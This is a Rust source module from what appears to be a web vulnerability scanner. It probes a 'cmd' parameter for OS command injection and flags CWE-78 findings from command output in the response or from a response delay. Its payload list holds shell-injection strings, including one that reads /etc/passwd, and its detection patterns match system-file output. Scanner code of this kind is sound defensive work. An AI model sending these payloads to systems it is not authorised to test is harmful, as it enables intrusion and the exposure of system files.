use std::time::Duration;

use async_trait::async_trait;
use once_cell::sync::Lazy;
use regex::Regex;
use reqwest::Client;
use tokio::time::Instant;

use super::{excerpt, new_match, target_of, with_param, Probe};
use crate::error::ModuleError;
use crate::exploits::{
    ExecutionMode, ExploitKind, ExploitModule, ModuleOutput, ScanOptions, Severity, Subject,
    Vulnerability,
};

const KIND: &str = "OS command injection";
const PARAM: &str = "cmd";
const FIX: &str = "Never pass request data to a shell; use argument vectors and strict allowlists.";
const DELAY_THRESHOLD: Duration = Duration::from_secs(2);

const PAYLOADS: &[&str] = &[
    "; ls -la",
    "| whoami",
    "`id`",
    "$(uname -a)",
    "; cat /etc/passwd",
    "& ping -c 3 127.0.0.1",
];

static COMMAND_OUTPUT: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"uid=\d+\(",
        r"Linux.*GNU",
        r"root:x:0:0:",
        r"total \d+",
        r"PING.*bytes",
    ]
    .iter()
    .map(|p| Regex::new(p).unwrap())
    .collect()
});

/// Shell metacharacter payloads on the `cmd` parameter.
pub struct CommandInjectionProbe {
    client: Client,
}

impl CommandInjectionProbe {
    pub fn new(client: Client) -> Self {
        Self { client }
    }
}

#[async_trait]
impl ExploitModule for CommandInjectionProbe {
    fn mode(&self) -> ExecutionMode {
        ExecutionMode::Live
    }

    async fn run(
        &self,
        subject: &Subject,
        options: &ScanOptions,
        deadline: Instant,
    ) -> Result<ModuleOutput, ModuleError> {
        let target = target_of(subject, ExploitKind::CommandInjection)?;
        let probe = Probe::new(&self.client, options, deadline);
        let baseline = probe.baseline(target).await?;
        let mut findings = Vec::new();
        let (mut output_seen, mut delay_seen) = (false, false);

        for payload in PAYLOADS {
            if output_seen && delay_seen {
                break;
            }
            probe.ensure_time()?;
            let url = with_param(target, PARAM, payload);
            let Some(response) = probe.attempt(probe.client().get(url.clone())).await? else {
                continue;
            };

            if !output_seen {
                if let Some(matched) = new_match(&COMMAND_OUTPUT, &response.body, &baseline.body) {
                    output_seen = true;
                    findings.push(
                        Vulnerability::new(
                            KIND,
                            Severity::Critical,
                            url.as_str(),
                            "Command output returned in the response",
                        )
                        .with_payload(*payload)
                        .with_evidence(excerpt(&response.body, matched))
                        .with_recommendation(FIX)
                        .with_cwe("CWE-78"),
                    );
                    continue;
                }
            }

            if !delay_seen
                && payload.contains("ping")
                && response.elapsed > baseline.elapsed + DELAY_THRESHOLD
            {
                delay_seen = true;
                findings.push(
                    Vulnerability::new(
                        KIND,
                        Severity::Critical,
                        url.as_str(),
                        "Blind command injection inferred from response delay",
                    )
                    .with_payload(*payload)
                    .with_evidence(format!(
                        "Response took {} ms against a {} ms baseline",
                        response.elapsed.as_millis(),
                        baseline.elapsed.as_millis()
                    ))
                    .with_recommendation(FIX)
                    .with_cwe("CWE-78"),
                );
            }
        }

        Ok(ModuleOutput::new(findings, 0))
    }
}
